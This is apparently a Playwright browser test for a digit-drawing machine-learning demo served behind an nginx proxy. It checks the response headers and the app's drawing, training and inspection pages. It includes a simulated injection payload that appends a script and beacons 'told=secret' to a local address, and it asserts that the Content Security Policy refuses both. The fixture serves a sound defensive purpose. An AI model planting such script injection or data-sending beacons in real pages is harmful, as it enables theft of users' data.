"""The app behind the shipped proxy, in a browser that holds to the policy of the headers.

Whatever else the browser tests do holds to it, too: `new_page` fails if anything was refused.
"""

import re

import pytest
from playwright.sync_api import Page, expect

from digitdemo.bench.harness.browser import CANVAS
from digitdemo.bench.harness.proxy import nginx, running_proxy
from digitdemo.ui.door.headers import HEADERS
from tests.browser.conftest import QUICK, START, LoggedApp, Windows, draw, ended, go, headline, start
from tests.conftest import SEVEN, until

# What somebody would do who had found a way to write into the page: run a script, tell another server.
_ATTACK = """
() => {
  const script = document.createElement('script');
  script.textContent = 'window.broken = true';
  document.head.append(script);
  new Image().src = 'http://127.0.0.1:9/?told=secret';
  return window.broken ?? false;
}
"""


@pytest.mark.skipif(nginx() is None, reason="nginx is not installed: apt-get install nginx-light")
def test_behind_the_proxy_one_draws_trains_and_looks_on_and_a_script_from_elsewhere_does_nothing(
    app: LoggedApp, page: Page, windows: Windows
):
    with running_proxy(app.app.port) as port:
        answer = page.goto(f"http://127.0.0.1:{port}")
        assert {name: answer.headers.get(name.lower()) for name in HEADERS} == HEADERS
        expect(page.locator(CANVAS)).to_be_visible()
        draw(page, SEVEN)
        expect(headline(page, re.compile(r"models read 7"))).to_be_visible()
        page.goto(f"http://127.0.0.1:{port}/lab?{QUICK}")
        expect(page.locator(START)).to_be_enabled()
        start(page)
        expect(ended(page, "1. Linear softmax")).to_be_visible()
        expect(page.locator(".st-key-accuracy .js-plotly-plot")).to_be_visible()
        go(page, "Look inside")
        expect(page.get_by_text(re.compile(r"Of 64 tiny changes, \d+"))).to_be_visible()
        go(page, "Class")
        expect(page.get_by_role("heading", level=1)).to_be_visible()
        assert windows.refused == []
        assert page.evaluate(_ATTACK) is False
        until(lambda: page.evaluate("1") and len(windows.refused) == 2)
        assert [refused.split()[0] for refused in sorted(windows.refused)] == ["img-src", "script-src-elem"]
        windows.refused.clear()
